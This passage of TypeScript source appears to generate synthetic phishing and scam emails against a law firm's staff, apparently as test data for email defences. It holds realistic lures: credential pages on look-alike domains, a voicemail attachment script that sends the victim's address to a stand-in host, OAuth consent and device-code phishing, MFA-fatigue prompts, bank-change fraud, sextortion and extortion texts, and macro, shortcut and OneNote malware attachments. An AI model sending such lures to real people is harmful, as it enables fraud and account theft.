          'You received this because a NetDocuments user shared content with you.',
        ],
      });
      return {
        from: mailbox(`${name(from)} (NetDocuments)`, `noreply@${host}`),
        to: addr(to),
        subject: `${name(from)} shared "${doc}" with you`,
        html: l.html,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'm365-password-expiry',
    kind: 'password-expiry',
    make(r) {
      const host = r.pick([
        'm365-account-verify.com',
        'office365-mailhelp.net',
        'outlook-passwordcenter.com',
      ]);
      const to = staff(r);
      const url = `https://${r.pick(['login', 'account', 'secure'])}.${host}/${hex(r, 6)}#${b64url(to.email)}`;
      const html = `<html><body style="font-family:Segoe UI,Arial;font-size:14px"><p>Password for <b>${to.email}</b> expires today.</p><p>You can change your password or continue using current password.</p><p><a href="${url}" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">Keep Current Password</a></p><p style="font-size:12px;color:#666">${r.pick(['Note: We are not resposible for any loss of data if not done', 'If no action is taken you will be logged out from all devices', 'This mailbox will be locked in 24hrs'])}.</p><p style="font-size:11px;color:#999">${DOMAIN} Email Admin &copy; ${r.pick(['2024', '2025'])}</p></body></html>`;
      return {
        from: mailbox(
          r.pick([`${DOMAIN} Admin`, 'Microsoft 365', 'IT Support', 'Mail Administrator']),
          `no-reply@${host}`,
        ),
        to: to.email,
        subject: r.pick([
          `Password Expiration Notice for ${to.email}`,
          `${to.email.split('@')[0]} - Your password expires today`,
          'Mailbox Password Expiry',
        ]),
        html,
        auth: owned(r, host),
        encoding: r.below(3) === 0 ? 'base64' : undefined,
      };
    },
  },
  {
    id: 'voicemail-html-redirect',
    kind: 'voicemail-lure',
    make(r) {
      const host = r.pick(['vm-playback.info', 'voicecloud-msg.com', 'audio-rcv.net']);
      const to = staff(r);
      const caller = `(512) ${int(r, 200, 989)}-${digits(r, 4)}`;
      const page = `<html><head><script>var e="${to.email}";window.location.replace("https://${host}/vm/${hex(r, 8)}/?u="+btoa(e));</script></head><body>Loading voice message...</body></html>`;
      return {
        from: mailbox(
          r.pick(['Voice Mail', 'Phone System', 'RingCentral Voicemail', 'Voicemail Service']),
          `voicemail@${host}`,
        ),
        to: to.email,
        subject: r.pick([
          `New Voicemail from ${caller} - 0:${int(r, 21, 59)}`,
          `[VM] Missed call ${caller}`,
          'You have (1) new voice message',
        ]),
        html: `<table style="font-family:Arial;font-size:13px"><tr><td><b>Caller:</b></td><td>${caller}</td></tr><tr><td><b>Received:</b></td><td>${r.pick(['Today', 'Yesterday'])}</td></tr><tr><td><b>Duration:</b></td><td>00:00:${int(r, 21, 59)}</td></tr></table><p style="font-family:Arial;font-size:13px">Open the attached audio file to listen.</p>`,
        parts: [
          {
            type: 'text/html',
            name: `VM_Playback_${digits(r, 6)}.${r.pick(['htm', 'html', 'shtml'])}`,
            content: Buffer.from(page),
          },
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'compromised-client-sharepoint',
    kind: 'compromised-account-legit-host',
    make(r) {
      const [org, domain, tenant] = r.pick([
        ['Pedernales Custom Homes', 'pedernalescustomhomes.com', 'pedernalescustomhomes'],
        ['Lakeway Dental Group', 'lakewaydentalgroup.com', 'lakewaydental'],
        ['Bastrop Valley Logistics', 'bastropvalleylogistics.com', 'bvlogistics'],
        ['Hill Country Ag Supply', 'hillcountryagsupply.com', 'hcagsupply'],
      ]);
      const who = outsider(r);
      const to = staff(r);
      const file = r.pick([
        'Closing Documents.pdf',
        'Remittance Advice.pdf',
        'Signed Agreement.pdf',
        'Tax Documents 2025.pdf',
      ]);
      const url = `https://${tenant}-my.sharepoint.com/:b:/g/personal/${who.first[0].toLowerCase()}${who.last.split(' ')[0].toLowerCase()}_${domain.replace(/\./g, '_')}/E${alnum(r, 21)}?e=${alnum(r, 6)}`;
      const html = `<div style="font-family:Segoe UI,Arial;max-width:520px"><p style="font-size:20px">${name(who)} shared a file with you</p><p>${r.pick(['Please review and let me know', 'Here is the document we discussed', 'See attached for your records'])}</p><table style="border:1px solid #ddd;padding:12px;width:100%"><tr><td>&#128196; ${file}</td></tr></table><p><a href="${url}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p><p style="font-size:11px;color:#777">This link will work for anyone. ${org}</p></div>`;
      return {
        from: mailbox(
          name(who),
          `${who.first[0].toLowerCase()}${who.last.split(' ')[0].toLowerCase()}@${domain}`,
        ),
        to: addr(to),
        subject: r.pick([`${name(who)} shared "${file}" with you`, `${org} - ${file.replace('.pdf', '')}`]),
        html,
        auth: pass(domain, domain, domain),
        relay: `mail-${r.pick(['dm6nam', 'bn8nam', 'co1nam'])}${int(r, 10, 12)}on20${int(r, 600, 730)}.outbound.protection.outlook.com`,
      };
    },
  },
  {
    id: 'hosted-page-client-portal',
    kind: 'legit-hosting-lure',
    make(r) {
      const to = staff(r);
      const host = r.pick(['mail-alderportal.com', 'clientfiles-notify.net', 'docs-notify.info']);
      const [service, url] = r.pick([
        ['Notion', `https://${alnum(r, 8)}.notion.site/Client-Document-Portal-${hex(r, 32)}`],
        ['Canva', `https://www.canva.com/design/DAG${alnum(r, 8)}/${alnum(r, 22)}/view`],
        ['Google Sites', `https://sites.google.com/view/${alnum(r, 10)}-secure-docs/home`],
        [
          'Dropbox',
          `https://www.dropbox.com/scl/fi/${alnum(r, 21)}/Tax_Organizer_2025.pdf?rlkey=${alnum(r, 25)}&dl=0`,
        ],
      ]);
      const sender = outsider(r);
      const text = [
        r.pick(['Hello,', `Hi ${to.first},`, 'Good afternoon,']),
        '',
        r.pick([
          `I have shared the ${r.pick(['tax organizer', 'signed closing documents', 'updated financial statements', 'engagement package'])} with you through ${service}. Please review at your earliest convenience:`,
          'Please find the requested documents in the secure link below:',
        ]),
        '',
        url,
        '',
        r.pick(['Thanks,', 'Best regards,', 'Regards,']),
        name(sender),
      ];
      return {
        from: mailbox(name(sender), `${sender.first.toLowerCase()}@${host}`),
        to: addr(to),
        subject: r.pick([
          'Documents shared with you',
          `Shared: ${r.pick(['Tax Organizer 2025', 'Closing package', 'Financials Q3'])}`,
          'Please review',
        ]),
        text: text.join('\n'),
        html: noteHtml(text),
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'tax-client-documents-shortcut',
    kind: 'malware-shortcut-archive',
    make(r) {
      const who = outsider(r);
      const from = freemail(r, who);
      const to = r.pick([`info@${DOMAIN}`, `tax@${DOMAIN}`, addr(staff(r, 'accountant'))]);
      const inner = r.pick([
        'W2_1099_Documents.pdf.lnk',
        'Tax_Docs_2025.lnk',
        '2024_Return_and_W2.pdf.lnk',
        'Documents.js',
      ]);
      const text = [
        r.pick(['Hello,', 'Hi there,', 'Good morning']),
        '',
        r.pick([
          `My name is ${who.first} and I was referred to you by a friend. I need help filing my ${r.pick(['2024', '2025'])} taxes this year, my previous accountant retired. I have attached my W-2, 1099s and last year return.`,
          `I am a new client looking for a CPA for my personal and small business taxes. Attached is all my documents from last year so you can give me a quote.`,
        ]),
        '',
        r.pick([
          'Please let me know your fee and what else you need from me.',
          'Let me know how much you charge. Thank you',
          'I look forward to working with you.',
        ]),
        '',
        name(who),
      ];
      return {
        from: mailbox(name(who), from),
        to,
        subject: r.pick([
          'New client - tax documents',
          'Tax return help',
          'Tax preparation',
          'Looking for an accountant',
        ]),
        text: text.join('\n'),
        parts: [
          {
            type: 'application/zip',
            name: `${r.pick(['Tax_Documents', 'W2_and_1099', 'MyDocs_2025'])}.zip`,
            content: zipOf(inner),
          },
        ],
        auth: free(from),
      };
    },
  },
  {
    id: 'gusto-bank-verification',
    kind: 'payroll-credential',
    make(r, d) {
      const host = r.pick(['gusto-payrollverify.com', 'gusto-companyaccount.net', 'app-gusto.co']);
      const to = r.pick([staff(r, 'office'), staff(r, 'accountant')]);
      const url = `https://${host}/login?redirect=company/bank-account/verify&cid=${digits(r, 10)}`;
      const l = letter({
        brand: { name: 'gusto', color: '#f45d48' },
        greeting: `Hi ${to.first},`,
        paras: [
          `Your next payroll for ${FIRM} is scheduled to run on ${longDate(addDays(d, 2))}. Before we can debit your account, we need you to re-verify the company bank account on file.`,
          'Our bank partner has flagged the account for additional verification. If it is not verified before the payroll deadline, your team will not be paid on time.',
        ],
        button: { text: 'Verify bank account', url },
        sign: ['Gusto Risk Team'],
        footer: ['Gusto, 525 20th St, San Francisco, CA 94107'],
      });
      return {
        from: mailbox('Gusto', `no-reply@${host}`),
        to: addr(to),
        subject: r.pick([
          'Action needed before your next payroll',
          'Your payroll is on hold',
          'Verify your company bank account',
        ]),
        html: l.html,
        text: l.text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'direct-deposit-change',
    kind: 'payroll-diversion-bec',
    make(r) {
      const emp = staff(r, 'paralegal', 'associate', 'accountant', 'partner');
      const to = r.pick([staff(r, 'office'), staff(r, 'accountant')]);
      const from = r.pick([
        freemail(r, emp),
        `${emp.first.toLowerCase()}.${emp.last.toLowerCase()}@${r.pick(['corp-example.com', 'corpexample.net'])}`,
      ]);
      const text = r.pick([
        [
          `Hi ${to.first},`,
          '',
          "I changed my bank and want to update my direct deposit information before the next payroll. What details do you need from me? I'm out of office today.",
          '',
          'Thanks',
          emp.first,
        ],
        [
          'Hello,',
          '',
          'I need to update my paycheck direct deposit to a new account. Can it be effective for this pay period? Please let me know what you need.',
          '',
          name(emp),
        ],
        [
          `${to.first}, can you change my direct deposit for me? I tried in ADP and it's not letting me. I will send the new account and routing number.`,
          '',
          'Sent from my iPhone',
        ],
      ]);
      return {
        from: mailbox(name(emp), from),
        to: addr(to),
        subject: r.pick(['Direct deposit', 'Payroll update', 'Change of bank details', 'Quick question']),
        text: text.join('\n'),
        auth: from.includes('corp') ? owned(r, from.split('@')[1]) : free(from),
      };
    },
  },
  {
    id: 'quickbooks-invoice-callback',
    kind: 'callback-via-legit-service',
    make(r) {
      const to = staff(r, 'office', 'accountant', 'partner');
      const company = r.pick([
        'Tech Guard Solutions LLC',
        'PC Shield Support',
        'SecureNet Helpdesk Inc',
        'Total Device Protection',
      ]);
      const num = phone(r);
      const amt = money(r, 389, 899);
      const inv = int(r, 1001, 9899);
      const url = `https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-${hex(r, 32)}?locale=EN_US`;
      const l = letter({
        brand: { name: company, color: '#2ca01c' },
        paras: [
          `Dear Customer,`,
          `Your annual protection plan has been renewed. Invoice ${inv} for ${amt} is due today and will be auto charged.`,
          `If you did not authorize this renewal or wish to cancel and get a refund, please call our billing department immediately at ${num} within 24 hours.`,
        ],
        button: { text: 'Review and pay', url },
        footer: [`${company}`, `Questions? Call ${num}`, 'Powered by QuickBooks'],
      });
      return {
        from: mailbox(`${company}`, 'quickbooks@notification.intuit.com'),
        replyTo: freemail(r, outsider(r, false)),
        to: to.email,
        subject: `Invoice ${inv} from ${company}`,
        html: l.html,
        text: l.text,
        auth: pass('notification.intuit.com', 'notification.intuit.com', 'intuit.com'),
        relay: 'mail-10-12.intuit.com',
      };
    },
  },
  {
    id: 'renewal-pdf-callback',
    kind: 'callback-scam',
    make(r, d) {
      const who = outsider(r, false);
      const from = freemail(r, who);
      const brand = r.pick([
        'Norton 360 Deluxe',
        'McAfee Total Protection',
        'Geek Squad Total Tech Support',
        'PayPal',
      ]);
      const num = phone(r);
      const amt = money(r, 299, 649);
      return {
        from: mailbox(r.pick([`${brand.split(' ')[0]} Billing`, 'Billing Department', name(who)]), from),
        to: staff(r).email,
        subject: r.pick([
          `Order Confirmation #${digits(r, 9)}`,
          'Your subscription has been renewed',
          `Payment Receipt - ${upper(r, 8)}`,
        ]),
        text: r.pick([
          `Thank you for your renewal. Please find attached invoice.\n\nFor any query call ${num}`,
          `Hello,\n\nYour payment of ${amt} has been processed successfully. Receipt attached.\n\nIf you have not made this purchase contact support: ${num}`,
          `Invoice attached.`,
        ]),
        parts: [
          pdf(`Invoice_${digits(r, 7)}.pdf`, [
            `${brand} - INVOICE`,
            `Date: ${usDate(d)}   Invoice No: ${upper(r, 3)}-${digits(r, 8)}`,
            `Subscription: 3 years, 5 devices   Amount: ${amt}`,
            'Payment method: Auto debit',
            `To cancel or request a refund within 24 hours call: ${num}`,
          ]),
        ],
        auth: free(from),
      };
    },
  },
  {
    id: 'chase-business-restricted',
    kind: 'bank-impersonation',
    make(r) {
      const host = r.pick(['chase-businesssecure.com', 'chaseonline-verify.net', 'jpmc-accountreview.com']);
      const to = staff(r, 'accountant', 'office', 'partner');
      const url = `https://secure.${host}/web/auth/${hex(r, 16)}`;
      const l = letter({
        brand: { name: 'CHASE for BUSINESS', color: '#117aca' },
        greeting: 'Dear Chase Business Customer,',
        paras: [
          `We noticed unusual activity on your business checking account ending in ${digits(r, 4)}. As a precaution, we have placed a temporary restriction on outgoing wires and ACH payments.`,
          'To remove the restriction, please sign in and confirm your identity. If we do not hear from you within 48 hours, the account may be closed.',
        ],
        button: { text: 'Confirm Identity', url },
        footer: ['JPMorgan Chase Bank, N.A. Member FDIC', 'Please do not reply to this automated email.'],
      });
      return {
        from: mailbox('Chase', r.pick([`alerts@${host}`, 'no.reply.alerts@chase.com'])),
        to: to.email,
        subject: r.pick([
          'Important: Your account has been restricted',
          'Unusual activity detected on your business account',
          'Action required on your Chase account',
        ]),
        html: l.html,
        text: r.below(2) ? l.text : undefined,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'device-code-deposition-exhibits',
    kind: 'oauth-device-code',
    make(r) {
      const host = r.pick(['legalexhibit-share.com', 'deposition-docs.net', 'courtreporting-portal.com']);
      const who = outsider(r, false);
      const to = staff(r, 'paralegal', 'associate', 'partner');
      const code = upper(r, 9);
      const text = [
        `Hi ${to.first},`,
        '',
        `The exhibits from the ${outsider(r).last} deposition are ready. Our exhibit share is now connected with Microsoft 365, so you can open them with your firm login.`,
        '',
        '1. Go to https://microsoft.com/devicelogin',
        `2. Enter the code: ${code}`,
        '3. Sign in with your work account to open the exhibit folder',
        '',
        'The code expires in 15 minutes, let me know if you need a new one.',
        '',
        name(who),
        `${r.pick(['Lone Star', 'Capitol', 'Hill Country'])} Court Reporting`,
      ];
      return {
        from: mailbox(name(who), `${who.first.toLowerCase()}@${host}`),
        to: addr(to),
        subject: r.pick([
          'Deposition exhibits - access code',
          'Exhibits ready for review',
          'Shared exhibits',
        ]),
        text: text.join('\n'),
        html: noteHtml(text),
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'oauth-consent-addin',
    kind: 'oauth-consent-grant',
    make(r) {
      const host = r.pick(['clio-sync.app', 'legal-addins.com', 'matter-sync365.com']);
      const to = staff(r);
      const url = `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${guid(r)}&response_type=code&redirect_uri=https%3A%2F%2F${host}%2Fauth%2Fcallback&response_mode=query&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&state=${hex(r, 16)}`;
      const l = letter({
        brand: {
          name: r.pick(['Clio for Outlook', 'Matter Sync for Microsoft 365', 'LegalFiler Add-in']),
          color: '#0b6cb3',
        },
        greeting: `Hello ${to.first},`,
        paras: [
          "Your firm's Outlook add-in requires re-authorization following the latest Microsoft security update. Until re-authorized, emails will no longer be filed to matters automatically.",
          'Click below and accept the permissions requested. This takes less than a minute and uses your existing Microsoft 365 sign-in.',
        ],
        button: { text: 'Re-authorize add-in', url },
        footer: ['You are receiving this because your account has the add-in installed.'],
      });
      return {
        from: mailbox('Add-in Notifications', `notify@${host}`),
        to: addr(to),
        subject: r.pick([
          'Re-authorization required for your Outlook add-in',
          'Email filing paused - action needed',
        ]),
        html: l.html,
        text: l.text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'mfa-migration-approve-prompts',
    kind: 'mfa-fatigue',
    make(r) {
      const look = r.pick(['corp-example-it.com', 'corpexample-helpdesk.com']);
      const it = staff(r, 'it');
      const spoof = r.below(2) === 0;
      const text = [
        'All staff,',
        '',
        `Tonight we are migrating ${FIRM} accounts to the new Microsoft Authenticator policy. During the migration (${r.pick(['7-9 PM', '6-8 PM', '8-10 PM'])} CT) you will receive several sign-in approval requests on your phone.`,
        '',
        r.pick([
          'Please APPROVE each request as it comes in. If a request is denied, your account will be locked and you will need to visit IT in person tomorrow.',
          'Please approve all prompts. If the app asks for a number, enter the number the helpdesk technician gives you when they call.',
        ]),
        '',
        'Thank you for your patience,',
        `${name(it)}`,
        'IT Department',
      ];
      return {
        from: mailbox(`IT Helpdesk`, spoof ? `helpdesk@${DOMAIN}` : `helpdesk@${look}`),
        to: r.pick([`allstaff@${DOMAIN}`, addr(staff(r))]),
        subject: r.pick([
          'MFA migration tonight - action required',
          'IMPORTANT: Authenticator update',
          'Security upgrade tonight',
        ]),
        text: text.join('\n'),
        auth: spoof
          ? spoofed(r, DOMAIN, `bounce.${r.pick(['sendmass.example', 'blastmail.test'])}`)
          : owned(r, look),
      };
    },
  },
  {
    id: 'spam-flood-helpdesk-call',
    kind: 'vishing-setup',
    make(r) {
      const who = outsider(r, false);
      const from = r.pick([
        `${who.first.toLowerCase()}.${who.last.toLowerCase()}.it@outlook.com`,
        freemail(r, who, ['outlook.com', 'onmicrosoft.com']),
      ]);
      const text = [
        `Hello ${staff(r).first},`,
        '',
        `This is ${who.first} from the IT support team. We have noticed a large volume of spam emails hitting your mailbox this morning and we are working to block it.`,
        '',
        r.pick([
          'I will contact you on Microsoft Teams in the next few minutes to set up a new spam filter on your computer. Please accept the Quick Assist request so I can connect.',
          `Please call me at (512) ${int(r, 200, 989)}-${digits(r, 4)} so I can walk you through installing the filter. It takes 5 minutes.`,
        ]),
        '',
        'Thanks,',
        `${who.first} - IT Support`,
      ];
      return {
        from: mailbox(`IT Support - ${who.first}`, from),
        to: staff(r).email,
        subject: r.pick([
          'Spam emails - we are fixing it',
          'Re: spam issue',
          'IT: incoming spam on your account',
        ]),
        text: text.join('\n'),
        auth: from.endsWith('outlook.com')
          ? free(from)
          : pass('onmicrosoft.com', 'onmicrosoft.com', 'onmicrosoft.com'),
      };
    },
  },
  {
    id: 'sextortion-spoofed-self',
    kind: 'extortion-sextortion',
    make(r) {
      const to = staff(r);
      const btc = `bc1q${alnum(r, 38)}`;
      const amt = money(r, 1200, 2900, false);
      const text = [
        `${`Hello ${r.pick(['', `${to.first}`, 'pervert'])}`.trim()},`,
        '',
        r.pick([
          `I have to share bad news with you. Approximately few months ago I have gained access to your devices, which you use for internet browsing. As you may notice I sent this email from your account ${to.email}.`,
          `You may not know me. I am a hacker who got access to your device a while ago, and I've been watching you. This message is sent from your own mailbox (${to.email}) to prove it.`,
        ]),
        '',
        'I installed a malware on the adult videos websites you visit. It has recorded you through the webcam and made a copy of all your contacts, including clients of your firm.',
        '',
        `If you want me to delete the video, transfer ${amt} USD to my bitcoin wallet: ${btc}`,
        '',
        'You have 48 hours after opening this email. I can see when you read it. Do not reply, do not go to police, I will know.',
      ];
      return {
        from: to.email,
        to: to.email,
        subject: r.pick([
          `${to.email.split('@')[0]}`,
          'Payment required',
          'Your account is hacked',
          'I know everything about you',
        ]),
        text: text.join('\n'),
        auth: spoofed(
          r,
          DOMAIN,
          r.pick(['mail.vn-hosting.test', 'smtp.bulk-host.example', 'static.cust.invalid']),
        ),
        relay: `${r.pick(['static', 'host', 'ip'])}-${int(r, 1, 254)}-${int(r, 1, 254)}.${r.pick(['vn-hosting.test', 'cust.invalid'])}`,
      };
    },
  },
  {
    id: 'data-theft-extortion',
    kind: 'extortion-data-theft',
    make(r) {
      const crew = r.pick(['SilentVault', 'Blackmere Group', 'NullLedger', 'KryptVault']);
      const from = `${crew.toLowerCase().replace(/\s/g, '')}${int(r, 1, 99)}@${r.pick(['proton.me', 'protonmail.com', 'tutanota.com'])}`;
      const gb = int(r, 40, 420);
      const text = [
        `To the partners of ${FIRM},`,
        '',
        `We have accessed your network and downloaded ${gb} GB of data, including client tax returns, closing files with bank information, and privileged litigation material. Sample file list is available on request.`,
        '',
        `If you do not contact us within 72 hours, we will notify your clients, the State Bar of Texas and the press, and publish the data on our site. Negotiation is possible.`,
        '',
        `Contact: ${from} or our chat at http://${alnum(r, 56)}.onion/${hex(r, 12)}`,
        '',
        crew,
      ];
      return {
        from: mailbox(crew, from),
        to: r.pick([addr(staff(r, 'partner')), `info@${DOMAIN}`]),
        subject: r.pick(['Your data', `${FIRM} - data breach notice`, 'Confidential - read immediately']),
        text: text.join('\n'),
        auth: free(from),
      };
    },
  },
  {
    id: 'advance-fee-estate-counsel',
    kind: 'advance-fee',
    make(r) {
      const who = r.pick([
        { first: 'Barrister Edward', last: 'Collins' },
        { first: 'Dr. Michael', last: 'Owusu' },
        { first: 'Mrs. Helen', last: 'Ward' },
      ]);
      const from = freemail(r, { first: who.first.split(' ').pop()!, last: who.last }, [
        'gmail.com',
        'outlook.com',
        'yandex.com',
        'mail.com',
      ]);
      const sum = r.pick(['US$8,500,000.00', 'US$12.4 Million', '$6,750,000 USD']);
      const text = [
        'Dear Esteemed Attorney,',
        '',
        `I am ${who.first} ${who.last}, personal attorney to late Engr. ${outsider(r, false).last} who was a contractor with ${r.pick(['an oil firm in the Gulf', 'a construction company in Dubai', 'the Ghana Ports Authority'])}. My client died along with his family in a motor accident, leaving behind a deposit of ${sum} with a financial institution which now request I present the next of kin or the funds will be confiscated.`,
        '',
        `Since your surname and State of Texas matches my late client records, I seek your firms cooperation to present you as beneficiary. Your firm will receive 40% for professional services. This transaction is 100% risk free and legal.`,
        '',
        'Please reply with your full name, direct telephone and I will furnish you with the details. Kindly treat as strictly confidential.',
        '',
        'Yours faithfully,',
        `${who.first} ${who.last}`,
      ];
      return {
        from: mailbox(`${who.first} ${who.last}`, from),
        replyTo: r.below(2)
          ? `${who.last.toLowerCase()}.chambers@${r.pick(['consultant.com', 'lawyer.com', 'mail.com'])}`
          : undefined,
        to: r.pick([`info@${DOMAIN}`, staff(r, 'partner').email]),
        subject: r.pick([
          'Confidential Business Proposal',
          'STRICTLY PRIVATE & CONFIDENTIAL',
          'Beneficiary Claim - Kindly Respond',
        ]),
        text: text.join('\n'),
        auth: free(from),
      };
    },
  },
  {
    id: 'remote-legal-assistant-job',
    kind: 'job-scam',
    make(r) {
      const host = r.pick(['lexstaffing-partners.com', 'legaltalent-hub.net', 'paralegal-careers.org']);
      const who = outsider(r, false);
      const to = staff(r, 'paralegal', 'office');
      const rate = int(r, 38, 55);
      const text = [
        `Hi ${to.first},`,
        '',
        `I came across your profile and think you would be a great fit for a remote part-time Legal Assistant role with one of our clients, a ${r.pick(['national litigation firm', 'real estate investment group', 'boutique IP practice'])}. The position pays $${rate}/hour, 15-20 hours per week, fully flexible.`,
        '',
        'Responsibilities include document review, receiving client payments and forwarding them to vendors. Equipment will be provided; we send you a check to purchase your home-office setup from our approved vendor.',
        '',
        'If interested, reply with your full name, home address, cell number and your preferred email so we can schedule a brief chat interview.',
        '',
        'Best,',
        name(who),
        `Talent Acquisition | ${host.split('.')[0].replace(/-/g, ' ')}`,
      ];
      return {
        from: mailbox(name(who), `${who.first.toLowerCase()}@${host}`),
        to: addr(to),
        subject: r.pick([
          `Remote Legal Assistant - $${rate}/hr`,
          'Part-time opportunity',
          'Your profile - flexible remote role',
        ]),
        text: text.join('\n'),
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'ups-customs-duty',
    kind: 'parcel-customs',
    make(r) {
      const host = r.pick(['ups-customsfee.com', 'ups-deliverycenter.net', 'upsparcel-duties.info']);
      const to = staff(r);
      const track = `1Z${upper(r, 6)}${digits(r, 10)}`;
      const fee = money(r, 2, 9);
      const url = `https://${host}/pay/${track}`;
      const l = letter({
        brand: { name: 'UPS', color: '#351c15' },
        paras: [
          `Your shipment ${track} from ${r.pick(['United Kingdom', 'Germany', 'Mexico', 'Canada'])} is being held at the customs facility.`,
          `Import duties and taxes of ${fee} must be paid before delivery can be scheduled. If payment is not received within 72 hours, the package will be returned to sender.`,
        ],
        button: { text: 'Pay Duties & Taxes', url },
        footer: ['© United Parcel Service of America, Inc.'],
      });
      return {
        from: mailbox('UPS Quantum View', `noreply@${host}`),
        to: to.email,
        subject: r.pick([
          `UPS Update: Import duties due for ${track}`,
          'Your package is on hold',
          'Action Required: Customs payment',
        ]),
        html: l.html,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'court-reporter-invoice-macro',
    kind: 'malware-macro-workbook',
    make(r) {
      const host = r.pick(['lonestar-reporting.com', 'capitolcourtreporters.net', 'txdeposervices.com']);
      const who = outsider(r);
      const to = staff(r, 'office', 'paralegal', 'accountant');
      const inv = `INV-${digits(r, 6)}`;
      return {
        from: mailbox(`${name(who)}`, `${who.first.toLowerCase()}@${host}`),
        to: addr(to),
        subject: r.pick([
          `${inv} - Deposition of ${name(outsider(r))}`,
          `Invoice ${inv} past due`,
          `Statement - ${FIRM}`,
        ]),
        text: [
          `Hello ${to.first},`,
          '',
          r.pick([
            `Attached please find our invoice ${inv} for the transcript and exhibits. Please enable editing to view the itemized charges.`,
            `Our records show invoice ${inv} is now past due. Attached is the statement for your review, the file is protected, click "Enable Content" to view.`,
          ]),
          '',
          'Thank you for your business!',
          name(who),
          'Accounts Receivable',
        ].join('\n'),
        parts: [
          {
            type: 'application/vnd.ms-excel.sheet.macroEnabled.12',
            name: `${inv}.xlsm`,
            content: macroWorkbook(),
          },
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'transcript-errata-doc',
    kind: 'malware-legacy-doc',
    make(r) {
      const from = r.pick([
        freemail(r, outsider(r)),
        `transcripts@${r.pick(['depo-transcripts.net', 'txreporters.org'])}`,
      ]);
      const to = staff(r, 'paralegal', 'associate');
      const cause = causeNumber(r);
      return {
        from,
        to: to.email,
        subject: r.pick([
          `Transcript - ${cause} - errata sheet`,
          'Errata sheet for signature',
          `Signature page / ${cause}`,
        ]),
        text: `Please find the errata sheet attached. The witness must sign within 30 days.\n\nThanks`,
        parts: [
          {
            type: 'application/msword',
            name: `Errata_${cause.replace(/[^\w-]/g, '')}.doc`,
            content: legacyMacroDocument(),
          },
        ],
        auth:
          from.includes('gmail') ||
          from.includes('outlook') ||
          from.includes('yahoo') ||
          from.includes('icloud') ||
          from.includes('hotmail') ||
          from.includes('aol')
            ? free(from)
            : owned(r, from.split('@')[1]),
      };
    },
  },
  {
    id: 'settlement-onenote',
    kind: 'malware-onenote',
    make(r) {
      const who = outsider(r);
      const host = r.pick(['ashby-law.com', 'kimballpruittlaw.com', 'hollisstroud-legal.com']);
      const to = staff(r, 'partner', 'associate', 'paralegal');
      return {
        from: mailbox(
          `${name(who)}, Esq.`,
          `${who.first[0].toLowerCase()}${who.last.split(' ')[0].toLowerCase()}@${host}`,
        ),
        to: addr(to),
        subject: r.pick([
          'Settlement agreement - please review',
          'Draft Settlement and Release',
          'Proposed settlement terms',
        ]),
        text: [
          `Counsel,`,
          '',
          'Attached is our draft settlement agreement and release. Double-click the document icon in the attached file to open it. Please send your comments by end of week.',
          '',
          name(who),
        ].join('\n'),
        parts: [
          {
            type: 'application/onenote',
            name: `Settlement_Agreement_${digits(r, 4)}.one`,
            content: oneNote('Settlement_Agreement.pdf.wsf'),
          },
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'process-server-bank-change',
    kind: 'vendor-bank-change',
    make(r, d) {
      const [vendor, host] = r.pick([
        ['Lone Star Process Service', 'lonestar-processservice.com'],
        ['Bexar Legal Couriers', 'bexarlegalcourier.com'],
        ['Sterling Expert Witness Group', 'sterling-expertgroup.com'],
      ]);
      const who = outsider(r);
      const to = r.pick([staff(r, 'office'), staff(r, 'accountant')]);
      const [bankName, aba] = bank(r);
      const text = [
        'Dear Valued Client,',
        '',
        `Please be advised that ${vendor} has changed its banking relationship effective ${longDate(d)}. All future payments, including the open invoices listed on the attached statement, should be remitted to our new account. Please update your vendor records accordingly.`,
        '',
        'Payments sent to the old account will be returned and may incur late fees.',
        '',
        'Kind regards,',
        name(who),
        `Accounts Department, ${vendor}`,
      ];
      return {
        from: mailbox(name(who), `accounts@${host}`),
        to: addr(to),
        subject: r.pick([
          'Updated Remittance Information',
          'Change of Bank Details - Please Update',
          `${vendor} - new payment instructions`,
        ]),
        text: text.join('\n'),
        html: r.below(2) ? noteHtml(text) : undefined,
        parts: [
          pdf('Remittance_Update_Letter.pdf', [
            `${vendor} - NOTICE OF CHANGE OF BANKING DETAILS`,
            `Bank: ${bankName}   ABA: ${aba}   Account: ${digits(r, 10)}`,
            `Open invoices: ${money(r, 1800, 24000)}`,
            'Authorized by: Controller',
          ]),
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'westlaw-past-due-pay-link',
    kind: 'fake-invoice',
    make(r) {
      const [brand, host] = r.pick([
        ['Thomson Reuters Westlaw', r.pick(['tr-billingcenter.com', 'westlaw-accounts.net'])],
        ['LexisNexis', r.pick(['lexisnexis-billing.org', 'lexis-invoicecenter.com'])],
      ]);
      const to = r.pick([staff(r, 'office'), staff(r, 'accountant')]);
      const amt = money(r, 1800, 14000);
      const url = `https://${host}/invoice/${digits(r, 10)}/pay`;
      const l = letter({
        brand: { name: brand, color: brand.startsWith('Lexis') ? '#d5001c' : '#ff8000' },
        greeting: 'Dear Customer,',
        paras: [
          `Our records indicate that account ${digits(r, 9)} for ${FIRM} has a past-due balance of ${amt}. Your research subscription will be suspended on ${r.pick(['Friday', 'Monday', 'the 15th'])} unless payment is received.`,
          'You can view the invoice and pay securely online by ACH or card.',
        ],
        button: { text: 'View & Pay Invoice', url },
        footer: [`${brand} Customer Billing`],
      });
      return {
        from: mailbox(`${brand} Billing`, `billing@${host}`),
        to: addr(to),
        subject: r.pick([
          'Past Due Notice - Service Suspension Pending',
          `Invoice overdue: ${amt}`,
          'Final reminder: outstanding balance',
        ]),
        html: l.html,
        text: l.text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'encrypted-message-open-redirect',
